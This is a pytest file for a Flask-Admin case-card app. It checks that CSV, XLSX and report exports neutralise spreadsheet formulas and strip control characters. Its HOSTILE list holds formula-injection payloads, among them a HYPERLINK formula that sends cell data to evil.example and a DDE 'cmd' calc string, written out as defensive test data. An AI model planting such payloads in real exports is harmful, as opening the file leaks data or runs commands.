"""Spreadsheet exports hold no live formula and no character that breaks them (issue 13):
the card list's CSV and XLSX (Flask-Admin's export), the reports' workbooks (exports.workbook)
and the rule they share (exports.cells.safe_cell)."""

import csv
import datetime
import io

import openpyxl
import pytest

import documents
import exports
from documents.custom_fields import FieldDefinition as Field
from exports.cells import safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_becomes_plain_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        3,
        -3,
        2.5,
        -0.25,
        True,
        None,
        datetime.date(2024, 5, 1),
        datetime.datetime(2024, 5, 1, 9, 30),
        "-3",
        "+3",
        "-0.5",
        "张三",
        "2024-05-01",
        "a=b",
        " 说明",
    ],
)
def test_numbers_dates_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_control_characters_are_dropped():
    assert safe_cell("张\x00三\x07\x1b\x7f") == "张三"
    assert safe_cell("第一行\n第二行\t完") == "第一行\n第二行\t完"
    assert safe_cell("\x00=1+1") == "'=1+1"  # what is left is checked, not what came


def _card(unit, **values):
    card = documents.CaseCard(
        unit=unit, petitioner="张三", subject="反映问题", registered_on=datetime.date(2024, 3, 1)
    )
    for name, value in values.items():
        setattr(card, name, value)
    return card.save()


def _store_raw(card, **values):
    """Stored before input was checked (or straight into the store)."""
    documents.CaseCard._get_collection().update_one({"_id": card.pk}, {"$set": values})


def _sheet(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return openpyxl.load_workbook(io.BytesIO(response.data)).active


def test_the_card_export_neutralises_formulas_in_csv_and_xlsx(app, client):
    unit = documents.Unit(name="某乡").save()
    documents.FieldSet(
        unit=unit,
        target="case_card",
        fields=[
            Field(key="times", label="=来访次数", type="number"),
            Field(key="note", label="备注", type="text"),
        ],
    ).save_new_version()
    for n, text in enumerate(HOSTILE):
        # a name is one line: the tab and carriage return ones go to the 案由 only
        _card(unit, petitioner=HOSTILE[n % 4], subject=text, extra={"times": -3, "note": text})

    text = client.get(f"/admin/casecard/export/csv/?unit={unit.pk}").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert "'=来访次数" in header
    petitioner, subject, times, note = (
        header.index(h) for h in ("信访人", "案由", "'=来访次数", "备注")
    )
    assert sorted(row[subject] for row in body) == sorted("'" + t for t in HOSTILE)
    assert {row[petitioner] for row in body} == {"'" + t for t in HOSTILE[:4]}
    assert sorted(row[note] for row in body) == sorted("'" + t for t in HOSTILE)
    assert {row[times] for row in body} == {"-3"}  # a negative number is not a formula

    sheet = _sheet(client.get(f"/admin/casecard/export/xlsx/?unit={unit.pk}"))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert all("'" + t in values for t in HOSTILE)


def test_a_stored_control_character_does_not_break_the_xlsx_export(app, client):
    unit = documents.Unit(name="某乡").save()
    card = _card(unit)
    _store_raw(card, petitioner="张\x00三", subject="反映\x07问题\x1b", address="某村\x7f")
    sheet = _sheet(client.get(f"/admin/casecard/export/xlsx/?unit={unit.pk}"))
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "张三" in values and "反映问题" in values and "某村" in values
    text = client.get(f"/admin/casecard/export/csv/?unit={unit.pk}").get_data(as_text=True)
    assert "张三" in text and "\x00" not in text and "\x07" not in text


def test_report_workbooks_neutralise_text_and_keep_numbers_and_dates():
    data = exports.tables_xlsx(
        "=标题",
        [
            {
                "title": "逾期\x00件",
                "headers": ["信访人", "件数", "增减", "日期", "=备注"],
                "rows": [[t, "5", "-2", datetime.date(2024, 5, 1), t] for t in HOSTILE]
                + [["张\x00三", 7, "+3", datetime.datetime(2024, 5, 1, 9, 0), "ok"]],
            }
        ],
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A1"].value == "'=标题" and sheet["A2"].value == "逾期件"
    assert [c.value for c in sheet[3]] == ["信访人", "件数", "增减", "日期", "'=备注"]
    first = [c.value for c in sheet[4]]
    assert first[0] == "'" + HOSTILE[0] and first[4] == "'" + HOSTILE[0]
    assert first[1] == 5 and first[2] == -2  # numbers stay numbers the office can sum
    assert sheet["D4"].is_date and sheet["D4"].value == datetime.datetime(2024, 5, 1)
    last = [c.value for c in sheet[4 + len(HOSTILE)]]
    assert last[:3] == ["张三", 7, "+3"] and sheet.cell(4 + len(HOSTILE), 4).is_date
